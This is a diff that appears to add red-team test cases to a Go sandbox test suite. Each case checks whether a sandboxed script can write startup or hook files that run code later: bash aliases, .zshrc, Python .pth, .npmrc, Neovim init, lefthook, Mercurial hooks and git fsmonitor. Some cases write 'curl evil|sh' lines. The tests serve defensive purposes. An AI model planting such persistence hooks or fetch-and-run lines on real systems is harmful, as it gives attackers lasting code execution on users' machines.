@@ -293,6 +293,37 @@ git update-index --add --cacheinfo 160000,$(git -C m rev-parse HEAD),m`,
 		script: `mkdir -p ~/.local/bin && printf '#!/bin/sh\nid\n' > ~/.local/bin/git`, worked: exists("~/.local/bin/git")},
 	{name: "F-15/ssh-config", config: writeDotAndHome,
 		script: `echo 'Host *' >> ~/.ssh/config`, worked: exists("~/.ssh/config")},
+	// Red team B10/B20/B26: more files that run code later.
+	{name: "F-15/bash-aliases", config: writeDotAndHome,
+		script: `echo 'curl evil|sh' > ~/.bash_aliases`, worked: exists("~/.bash_aliases")},
+	{name: "F-15/python-user-site-pth", config: writeDotAndHome,
+		script: `mkdir -p ~/.local/lib/python3.11/site-packages && echo 'import os' > ~/.local/lib/python3.11/site-packages/x.pth`,
+		worked: exists("~/.local/lib/python3.11/site-packages/x.pth")},
+	{name: "F-15/npmrc", config: writeDotAndHome,
+		script: `echo 'node-options=--require /tmp/x.js' > ~/.npmrc`, worked: exists("~/.npmrc")},
+	{name: "F-15/nvim-init", config: writeDotAndHome,
+		script: `mkdir -p ~/.config/nvim && echo 'os.execute("id")' > ~/.config/nvim/init.lua`, worked: exists("~/.config/nvim/init.lua")},
+	{name: "F-15/xdg-config-home-git", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("xdg/git/config", "[user]\n")
+			e.Vars = append(e.Vars, "XDG_CONFIG_HOME="+e.Path("xdg"))
+		},
+		script: `printf '[core]\n\tfsmonitor = evil\n' >> xdg/git/config`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read("xdg/git/config"), "evil")
+		}},
+	{name: "F-15/zdotdir", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			os.MkdirAll(e.Path("zdot"), 0o755)
+			e.Vars = append(e.Vars, "ZDOTDIR="+e.Path("zdot"))
+		},
+		script: `echo 'curl evil|sh' > zdot/.zshrc`, worked: exists("zdot/.zshrc")},
+	{name: "F-17/lefthook", config: writeDot,
+		script: `printf 'pre-commit:\n  commands:\n    x:\n      run: id\n' > lefthook.yml`, worked: exists("lefthook.yml")},
+	{name: "F-17/hgrc", config: writeDot,
+		script: `mkdir -p .hg && printf '[hooks]\nupdate = id\n' > .hg/hgrc`, worked: exists(".hg/hgrc")},
+	{name: "F-17/nvim-lua", config: writeDot,
+		script: `echo 'os.execute("id")' > .nvim.lua`, worked: exists(".nvim.lua")},
 	{name: "F-18/project-below-writable-home-git-config", config: "[filesystem]\nallowWrite = [\"~\"]\n", setup: withRepo,
 		script: `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
 			return strings.Contains(e.Read(".git/config"), "evil")
